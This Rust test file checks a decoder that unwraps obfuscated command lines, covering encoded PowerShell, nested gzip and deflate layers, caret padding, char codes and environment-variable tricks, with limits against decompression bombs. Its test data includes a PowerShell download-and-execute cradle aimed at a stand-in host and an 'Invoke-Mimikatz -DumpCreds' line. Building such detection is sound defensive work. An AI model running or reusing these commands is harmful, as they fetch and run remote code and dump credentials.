//! What is decoded of command lines, and what is left as it is.

use std::io::Write;

use base64::{Engine, engine::general_purpose::STANDARD};
use flate2::{
    Compression,
    write::{DeflateEncoder, GzEncoder},
};
use proptest::prelude::*;

use super::*;

fn utf16(text: &str) -> String {
    STANDARD.encode(text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>())
}

fn gzip(text: &str) -> String {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(text.as_bytes()).unwrap();
    STANDARD.encode(encoder.finish().unwrap())
}

/// The layers of a command line: depth, name, text.
fn layers(command_line: &str) -> Vec<(usize, &'static str, String)> {
    let decoded = decode(command_line);
    assert!(!decoded.is_cut, "{command_line}");
    decoded.layers.into_iter().map(|layer| (layer.depth, layer.encoding.name(), layer.text)).collect()
}

/// The text of the only layer.
fn only(command_line: &str) -> String {
    let mut layers = layers(command_line);
    assert_eq!(layers.len(), 1, "{command_line}: {layers:?}");
    layers.remove(0).2
}

#[test]
fn an_encoded_command_of_powershell_is_decoded_under_each_of_its_options() {
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://img-cache.example/a')";
    for option in ["-e", "-enc", "-EncodedCommand", "/enc", "-ec", "\u{2013}encod", "-ENC:"] {
        let line = format!("powershell.exe -nop -w hidden {option} {}", utf16(script));
        assert_eq!(layers(&line), [(0, "base64 of UTF-16", script.to_owned())], "{option}");
        assert_eq!(only(&format!("powershell {option} \"{}\"", utf16(script))), script);
    }
    assert_eq!(only(&format!("pwsh -enc {}", utf16("Запустить"))), "Запустить");
}

#[test]
fn layers_within_layers_are_decoded_in_their_order() {
    let inner = "Invoke-Mimikatz -DumpCreds";
    let gzipped = format!("$s=[IO.MemoryStream][Convert]::FromBase64String('{}');GzipStream", gzip(inner));
    let line = format!("cmd /c p^ow^er^shell -enc {}", utf16(&gzipped));
    let found = layers(&line);
    assert_eq!(
        found.iter().map(|(depth, name, _)| (*depth, *name)).collect::<Vec<_>>(),
        [(0, "padding removed"), (1, "base64 of UTF-16"), (2, "base64 of compressed text")]
    );
    assert_eq!(found[2].2, inner);
    let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(inner.as_bytes()).unwrap();
    let deflated = STANDARD.encode(encoder.finish().unwrap());
    assert_eq!(only(&format!("IO.Compression.DeflateStream FromBase64String(\"{deflated}\")")), inner);
}

#[test]
fn padding_of_cmd_and_powershell_is_removed() {
    for (hidden, plain) in [
        ("c^m^d /c e^c^ho hi", "cmd /c echo hi"),
        (r#"p"owe"rsh"ell -c x"#, "powershell -c x"),
        (r#"po""wer""shell -c x"#, "powershell -c x"),
        ("I`nv`oke-Ex`pression", "Invoke-Expression"),
        ("&('In'+'vo' + 'ke-Expression')", "&('Invoke-Expression')"),
    ] {
        assert_eq!(only(hidden), plain);
    }
}

#[test]
fn codes_of_characters_are_replaced() {
    for (hidden, plain) in [
        ("[char]105+[char]0x65 + [char](120)", "'iex'"),
        ("& ([char]105+'e'+[char]120) foo", "& ('iex') foo"),
        ("Execute Chr(105) & chrw(101) & Chr(&H78)", "Execute 'iex'"),
        ("-join[char[]](105,101,120,32,97)", "-join[char[]]('iex a')"),
        ("eval(String.fromCharCode(97, 108,101,114,116))", "eval(String.fromCharCode('alert'))"),
        (r"$'\x77\x67\x65\x74' http://a", "$'wget' http://a"),
    ] {
        assert_eq!(only(hidden), plain);
    }
}

#[test]
fn variables_have_their_values() {
    for (hidden, plain) in [
        ("%COMSPEC% /c dir", r"C:\Windows\system32\cmd.exe /c dir"),
        ("%comspec:~-7,3% /c", "cmd /c"),
        ("%ProgramData:~0,1%md", "Cmd"),
        ("cmd /v /c set x=power&& set y=shell&& call %x%%y%", "cmd /v /c set x=power&& set y=shell&& call powershell"),
        ("cmd /v:on /c \"set a=wXget&call !a:X=!\"", "cmd /v:on /c \"set a=wXget&call wget\""),
        (r"$env:SystemRoot\x", r"C:\Windows\x"),
    ] {
        assert_eq!(only(hidden), plain);
    }
}

#[test]
fn ordinary_command_lines_hide_nothing() {
    for line in [
        "",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --field-trial-handle=1628,i,14067,131072"#,
        "svchost.exe -k netsvcs -p -s Schedule",
        "certutil -hashfile a.exe 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main -c config_file=/etc/postgresql/15/main/postgresql.conf",
        "grep -e pattern file",
        "python -c 'print(\"a\" + x)'",
        "powershell -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1",
        "git log --format=%H%n%s 100%",
        "findstr /r \"^abc ^def\" file",
        "java -Dkey=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "C:\\Windows\\system32\\rundll32.exe {a3b9c2d1-1234-5678-9abc-def012345678} 1,2,3,4,5,6",
    ] {
        assert_eq!(layers(line), [], "{line}");
    }
}

#[test]
fn a_bomb_is_cut_at_the_limit_and_a_hundred_layers_after_a_few() {
    let bomb = gzip(&"a".repeat(8 << 20));
    let decoded = decode(&format!("FromBase64String('{bomb}')"));
    assert!(decoded.is_cut);
    assert!(n_decoded(&decoded) <= MAX_OUTPUT);
    let mut nested = "end of the chain".to_owned();
    while nested.len() < MAX_INPUT / 2 {
        nested = STANDARD.encode(nested);
    }
    let decoded = decode(&nested);
    assert!(decoded.is_cut);
    assert!(decoded.layers.len() <= MAX_LAYERS && n_decoded(&decoded) <= MAX_OUTPUT);
}

fn n_decoded(decoded: &Decoded) -> usize {
    decoded.layers.iter().map(|layer| layer.text.len()).sum()
}

#[test]
fn hostile_text_ends_within_the_limits() {
    for (pattern, n) in [
        ("%a%set a=%a%&", 5_000),
        ("^", 65_000),
        ("a^", 32_000),
        ("[char]", 10_000),
        ("[char](", 9_000),
        ("'+", 32_000),
        ("'a'+", 16_000),
        ("1,", 32_000),
        ("\\x41", 16_000),
        ("(", 65_000),
        ("set a=", 10_000),
        ("set a=b&", 8_000),
        ("AAAA ", 13_000),
        ("%", 65_000),
        ("!a:b=", 13_000),
        ("\"a", 32_000),
        ("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA ", 1_500),
    ] {
        let decoded = decode(&pattern.repeat(n));
        assert!(decoded.layers.len() <= MAX_LAYERS && n_decoded(&decoded) <= MAX_OUTPUT, "{pattern}");
    }
}

proptest! {
    #[test]
    fn any_text_is_decoded_without_a_panic_and_within_the_limits(
        text in "\\PC{0,80}|[%!~:,0-9a-f()\\[\\]'\"+^`=&charset ]{0,120}",
    ) {
        let decoded = decode(&text);
        prop_assert!(decoded.layers.len() <= MAX_LAYERS && n_decoded(&decoded) <= MAX_OUTPUT);
    }

    #[test]
    fn what_is_encoded_is_decoded(text in "[ -~]{8,200}") {
        let decoded = decode(&format!("powershell -enc {}", utf16(&text)));
        prop_assert_eq!(&decoded.layers[0].text, &text);
    }
}
